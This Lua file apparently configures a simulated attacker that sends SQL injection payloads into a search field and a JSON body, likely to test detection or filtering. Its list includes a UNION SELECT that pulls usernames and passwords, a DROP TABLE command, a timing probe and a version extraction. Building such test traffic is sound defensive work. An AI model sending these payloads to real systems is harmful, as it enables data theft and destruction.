-- SQL injection into a search field and into a JSON body.

local injection = require "actors.injection"


return injection({
  name = "sql injection",
  from = 0.25,
  to = 0.6,
  addresses = { "203.0.113.13" },
  user_agent = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
}, {
  "1' OR '1'='1",
  "1 UNION SELECT username, password FROM users--",
  "'; DROP TABLE orders; --",
  "1' AND SLEEP(5)#",
  "' OR 1=1/*",
  "1) OR (SELECT COUNT(*) FROM information_schema.tables) > 0--",
  "admin'--",
  "-1' UNION ALL SELECT NULL,NULL,CONCAT(user(),0x3a,version())-- -",
})
